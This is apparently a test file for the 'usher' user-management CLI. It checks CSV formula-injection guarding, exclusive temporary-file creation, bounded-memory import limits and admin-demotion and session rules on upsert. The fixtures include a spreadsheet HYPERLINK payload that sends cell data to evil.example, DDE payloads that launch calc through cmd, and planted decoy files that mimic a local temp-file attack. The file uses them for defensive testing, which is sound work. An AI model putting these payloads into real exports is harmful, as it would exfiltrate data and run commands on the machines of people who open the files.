import assert from 'node:assert/strict';
import { mkdirSync, readFileSync, readdirSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { type TestContext, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { PASSWORD, build } from '../support/helper.js';
import { REDIS_URL, redisPrefix, waitFor, withoutRedis } from '../support/redis-helper.js';
import { cliFixture, jsonl } from '../support/cli.js';

/**
 * Issue 23, items 9, 10, 11 and 16: the `usher` command as an operator runs
 * it (the built bin/usher.mjs, a process of its own) against a real
 * database, checked through an HTTP app over the same database.
 */

async function setup(t: TestContext, env: Record<string, string> = {}) {
  const cli = await cliFixture(t, env);
  // The HTTP side: no bootstrap admin, so the admins are the ones the test makes.
  const api = () =>
    build(t, {
      DATABASE_URL: cli.url,
      USHER_ADMIN_USERNAME: '',
      USHER_ADMIN_EMAIL: '',
      USHER_ADMIN_PASSWORD: '',
      ...env,
    });
  return { ...cli, api };
}

test('item 9: export --format csv guards cells a spreadsheet would run (=, +, -, @, tab, CR) with a quote, quoted; import takes it off again', async (t) => {
  const { usher, dir, api: open } = await setup(t);
  const api = await open();
  assert.equal(
    usher(
      ['user', 'create', '--username', 'boss', '--email', 'boss@example.com', '--role', 'admin', '--password-stdin'],
      { input: `${PASSWORD}\n` },
    ).status,
    0,
  );
  // What anyone can register with: free text in names and bio, a phone number starting with +.
  const hostile = [
    {
      first_name: '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
      last_name: "@SUM(1+1)*cmd|' /C calc'!A0",
      bio: "-2+3+cmd|' /C calc'!A0",
      phone_number: '+1-555-0123',
    },
    { first_name: "'=already quoted", last_name: "'plain, not a formula", bio: '\t=1+1' },
    { first_name: '+33 is fine text', last_name: "''@two quotes", bio: '\r=1+1, then\nmore' },
  ];
  for (const [i, fields] of hostile.entries()) {
    const res = await api.request('POST', '/api/v1/users', {
      body: { username: `hostile_${i}`, email: `hostile${i}@example.com`, password: PASSWORD, ...fields },
    });
    assert.equal(res.status, 201, res.raw);
  }

  const out = join(dir, 'users.csv');
  const exported = usher(['export', '--format', 'csv', '--with-hashes', '--out', out]);
  assert.equal(exported.status, 0, exported.stderr);
  const text = readFileSync(out, 'utf8');
  assert.ok(
    text.includes(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Click"")"`),
    'guarded with a quote, and the cell quoted',
  );
  assert.ok(text.includes(`"'+1-555-0123"`));
  const cells: string[][] = parse(text, { relax_column_count: false });
  for (const cell of cells.flat())
    assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `a cell a spreadsheet would run: ${JSON.stringify(cell)}`);
  assert.ok(
    cells.flat().includes("''=already quoted"),
    'a value that starts with quotes before a formula character gets one more',
  );
  assert.ok(cells.flat().includes("'plain, not a formula"), 'any other value is written as it is');
  // stdout is the same export.
  assert.equal(usher(['export', '--format', 'csv', '--with-hashes']).stdout, text);

  // Into an empty database: the same values, exactly.
  const fresh = await setup(t);
  const imported = fresh.usher(['import', out, '--json']);
  assert.equal(imported.status, 0, imported.stderr);
  assert.equal(JSON.parse(imported.stdout).created, 4);
  const users = (run: ReturnType<typeof usher>) =>
    run.stdout
      .trim()
      .split('\n')
      .map((l) => {
        const { updated_at: _, ...rest } = JSON.parse(l);
        return rest;
      });
  assert.deepEqual(users(fresh.usher(['export', '--with-hashes'])), users(usher(['export', '--with-hashes'])));
  const again = users(fresh.usher(['export'])).find((u) => u.username === 'hostile_2');
  assert.equal(again.last_name, "''@two quotes");
  assert.equal(again.bio, '\r=1+1, then\nmore');
});

test('item 10: export --out writes through a random temporary file created exclusively, 0600; a file at the old predictable name is neither used nor written; a failed export leaves nothing behind', async (t) => {
  const { usher, dir } = await setup(t);
  assert.equal(
    usher(
      ['user', 'create', '--username', 'boss', '--email', 'boss@example.com', '--role', 'admin', '--password-stdin'],
      { input: `${PASSWORD}\n` },
    ).status,
    0,
  );
  const out = join(dir, 'export.jsonl');
  // Another local user's trap: files, readable by all, at `<out>.partial-<pid>` for the pids to come.
  const last = Number(readFileSync('/proc/sys/kernel/ns_last_pid', 'utf8'));
  const decoys = Array.from({ length: 2000 }, (_, i) => `${out}.partial-${last + 1 + i}`);
  for (const decoy of decoys) writeFileSync(decoy, 'decoy', { mode: 0o644 });
  const run = usher(['export', '--with-hashes', '--out', out]);
  assert.equal(run.status, 0, run.stderr);
  assert.ok(
    run.pid! > last && run.pid! <= last + decoys.length,
    'the export ran with a pid whose old temporary name was taken',
  );
  assert.equal(statSync(out).mode & 0o777, 0o600);
  assert.match(readFileSync(out, 'utf8'), /"password_hash":"\$argon2id\$/);
  for (const decoy of decoys) assert.equal(readFileSync(decoy, 'utf8'), 'decoy', `${decoy} untouched`);
  assert.deepEqual(
    readdirSync(dir).filter((f) => f.includes('partial') && !f.startsWith('export.jsonl.partial-')),
    [],
    'no temporary file left',
  );

  // A failed export (its target is a directory: the final rename fails) leaves no temporary file behind.
  const target = join(dir, 'a-directory');
  mkdirSync(target);
  writeFileSync(join(target, 'keep'), 'x');
  const before = readdirSync(dir).sort();
  const failed = usher(['export', '--out', target]);
  assert.equal(failed.status, 1);
  assert.match(failed.stderr, /usher export: /);
  assert.deepEqual(readdirSync(dir).sort(), before, 'nothing left beside the target');
});

test('item 11: a 40 MB line, or a CSV quote that never closes, stops the import with exit 1 naming the line, in bounded memory; nothing written', async (t) => {
  const { usher, file, dir, api: open } = await setup(t);
  assert.equal(
    usher(
      ['user', 'create', '--username', 'boss', '--email', 'boss@example.com', '--role', 'admin', '--password-stdin'],
      { input: `${PASSWORD}\n` },
    ).status,
    0,
  );
  const api = await open();
  const count = async () =>
    Number(
      (
        await api.database.db
          .selectFrom('users')
          .select((e) => e.fn.countAll().as('n'))
          .executeTakeFirstOrThrow()
      ).n,
    );
  // A 96 MB heap stands in for a 300 MB line against the default one: reading the line whole crashed (V8 out of memory,
  // 134).
  const small = { NODE_OPTIONS: '--max-old-space-size=96' };
  const good = JSON.stringify({ username: 'fine_user', email: 'fine@example.com', password: PASSWORD });
  const big = file(
    'one-line.jsonl',
    `${good}\n{"username":"huge","email":"huge@example.com","bio":"${'z'.repeat(40 * 1024 * 1024)}"}\n`,
  );
  for (const extra of [[], ['--skip-invalid']]) {
    const run = usher(['import', big, ...extra], { env: small });
    assert.equal(run.signal, null, run.stderr.slice(-500));
    assert.equal(run.status, 1, run.stderr.slice(-500));
    assert.match(run.stderr, /import stopped at line 2: the line is longer than 1 MiB/);
    assert.match(run.stderr, /nothing was imported/);
    assert.equal(await count(), 1, 'nothing written');
  }
  assert.deepEqual(
    readdirSync(dir).filter((f) => f.includes('rejects') || f.includes('partial')),
    [],
    'no reject file, no temporary file',
  );

  // CSV: a quote that never closes would take the rest of the file into one cell.
  const open40 = file(
    'open-quote.csv',
    `username,email,bio\nfine_user,fine@example.com,ok\n\nhuge,huge@example.com,"never closes\n${'x'
      .repeat(79)
      .concat('\n')
      .repeat(512 * 1024)}`,
  );
  const csv = usher(['import', open40], { env: small });
  assert.equal(csv.status, 1, csv.stderr.slice(-500));
  assert.match(csv.stderr, /import stopped at line 4: the row that starts here is longer than 1 MiB/);
  assert.equal(await count(), 1);
  // A row just under the bound is read (and judged by the usual rules).
  const under = usher([
    'import',
    file(
      'long-bio.jsonl',
      `${JSON.stringify({ username: 'long_bio', email: 'l@example.com', bio: 'b'.repeat(1000 * 1000) })}\n`,
    ),
  ]);
  assert.equal(under.status, 1);
  assert.match(under.stderr, /line 1: bio: /);
});

async function upsertSetup(t: TestContext, env: Record<string, string> = {}) {
  const s = await setup(t, env);
  const boss = s.usher(
    [
      'user',
      'create',
      '--username',
      'boss',
      '--email',
      'boss@example.com',
      '--role',
      'admin',
      '--password-stdin',
      '--json',
    ],
    { input: `${PASSWORD}\n` },
  );
  assert.equal(boss.status, 0, boss.stderr);
  const carol = s.usher([
    'user',
    'create',
    '--username',
    'carol',
    '--email',
    'carol@example.com',
    '--password',
    PASSWORD,
    '--json',
  ]);
  assert.equal(carol.status, 0, carol.stderr);
  const api = await s.api();
  return { ...s, api, bossId: JSON.parse(boss.stdout).id as string, carolId: JSON.parse(carol.stdout).id as string };
}

test('item 16: import --upsert goes through the write rules: the only admin cannot be demoted (the row refused and named; all or nothing, or skipped with --skip-invalid)', async (t) => {
  const { usher, file, api, bossId, carolId } = await upsertSetup(t);
  const boss = await api.login('boss');
  const who = async (id: string) => {
    api.clock.advance(1100); // without a shared bus (no Redis here) this app caches users for a second of its clock
    return (await api.request('GET', `/api/v1/users/${id}`, { token: boss.access_token })).body.data;
  };
  const rows = file(
    'demote.jsonl',
    jsonl([
      { username: 'carol', email: 'carol@example.com', bio: 'updated' },
      { username: 'boss', email: 'boss@example.com', role: 'user' },
    ]),
  );

  const refused = usher(['import', rows, '--upsert']);
  assert.equal(refused.status, 1);
  assert.match(
    refused.stderr,
    /import stopped at line 2: boss: The last active admin cannot be demoted or deactivated/,
  );
  assert.match(refused.stderr, /nothing was imported/);
  assert.equal((await who(bossId)).role, 'admin');
  assert.equal((await who(carolId)).bio, null, 'all or nothing: the good row was not written either');

  const skipped = usher(['import', rows, '--upsert', '--skip-invalid', '--json']);
  assert.equal(skipped.status, 0, skipped.stderr);
  assert.deepEqual(
    { ...JSON.parse(skipped.stdout), seconds: 0 },
    { created: 0, updated: 1, rejected: 1, seconds: 0, reject_file: `${rows}.rejects.jsonl` },
  );
  const rejects = readFileSync(`${rows}.rejects.jsonl`, 'utf8')
    .trim()
    .split('\n')
    .map((l) => JSON.parse(l));
  assert.deepEqual(
    rejects.map((r) => [r.line, r.reason]),
    [[2, 'boss: The last active admin cannot be demoted or deactivated']],
  );
  assert.equal((await who(bossId)).role, 'admin');
  assert.equal((await who(carolId)).bio, 'updated');
  const deactivate = usher([
    'import',
    file('inactive.jsonl', jsonl([{ username: 'boss', email: 'boss@example.com', status: 'inactive' }])),
    '--upsert',
  ]);
  assert.equal(deactivate.status, 1);
  assert.equal((await who(bossId)).status, 'active');

  // A file that brings another admin may demote the old one: new users are written first.
  const handover = usher([
    'import',
    file(
      'handover.jsonl',
      jsonl([
        { username: 'boss', email: 'boss@example.com', role: 'user' },
        { username: 'heir', email: 'heir@example.com', role: 'admin', password: PASSWORD },
      ]),
    ),
    '--upsert',
    '--json',
  ]);
  assert.equal(handover.status, 0, handover.stderr);
  const heir = await api.login('heir');
  api.clock.advance(1100);
  assert.equal(
    (await api.request('GET', `/api/v1/users/${bossId}`, { token: heir.access_token })).body.data.role,
    'user',
  );
  const audit = await api.request('GET', `/api/v1/audit-events?target_id=${bossId}&type=user.role_changed`, {
    token: heir.access_token,
  });
  assert.deepEqual(
    audit.body.data.map((e: { actor_id: string; details: unknown }) => [e.actor_id, e.details]),
    [[bossId, { from: 'admin', to: 'user' }]],
    'audited as any role change, naming the admin the command acted as',
  );
});

test("item 16: a password changed by import --upsert ends the user's sessions (the old refresh token is refused) and is audited", async (t) => {
  const { usher, file, api, bossId, carolId } = await upsertSetup(t);
  const carol = await api.login('carol');
  assert.equal((await api.request('GET', `/api/v1/users/${carolId}`, { token: carol.access_token })).status, 200);
  const run = usher([
    'import',
    file(
      'password.jsonl',
      jsonl([{ username: 'carol', email: 'carol@example.com', password: 'Orbit-Lantern-77-quartz' }]),
    ),
    '--upsert',
    '--json',
  ]);
  assert.equal(run.status, 0, run.stderr);
  assert.equal(JSON.parse(run.stdout).updated, 1);

  assert.equal(
    (await api.request('POST', '/api/v1/auth/refresh', { body: { refresh_token: carol.refresh_token } })).status,
    401,
    'the old refresh token is refused',
  );
  api.clock.advance(1100); // without a shared bus (no Redis here) this app's session cache lives a second of its clock
  assert.equal(
    (await api.request('GET', `/api/v1/users/${carolId}`, { token: carol.access_token })).status,
    401,
    'the old access token too',
  );
  assert.equal(
    (await api.request('POST', '/api/v1/auth/login', { body: { username: 'carol', password: PASSWORD } })).status,
    401,
  );
  const now = await api.login('carol', 'Orbit-Lantern-77-quartz');
  const boss = await api.login('boss');
  const audit = await api.request('GET', `/api/v1/audit-events?target_id=${carolId}&type=user.password_changed`, {
    token: boss.access_token,
  });
  assert.deepEqual(
    audit.body.data.map((e: { actor_id: string }) => e.actor_id),
    [bossId],
  );
  assert.equal((await api.request('GET', `/api/v1/users/${carolId}`, { token: now.access_token })).status, 200);
});

test('item 16: with REDIS_URL, an upsert is announced: another instance refuses the ended session at once, its clock standing still', {
  skip: withoutRedis,
}, async (t) => {
  const { usher, file, api, carolId } = await upsertSetup(t, {
    REDIS_URL: REDIS_URL!,
    USHER_REDIS_PREFIX: redisPrefix(t),
  });
  const carol = await api.login('carol');
  assert.equal(
    (await api.request('GET', `/api/v1/users/${carolId}`, { token: carol.access_token })).status,
    200,
    'the session is cached',
  );
  const run = usher([
    'import',
    file('suspend.jsonl', jsonl([{ username: 'carol', email: 'carol@example.com', status: 'suspended' }])),
    '--upsert',
  ]);
  assert.equal(run.status, 0, run.stderr);
  await waitFor(
    'the app to hear of carol',
    async () => (await api.request('GET', `/api/v1/users/${carolId}`, { token: carol.access_token })).status === 401,
  );
});
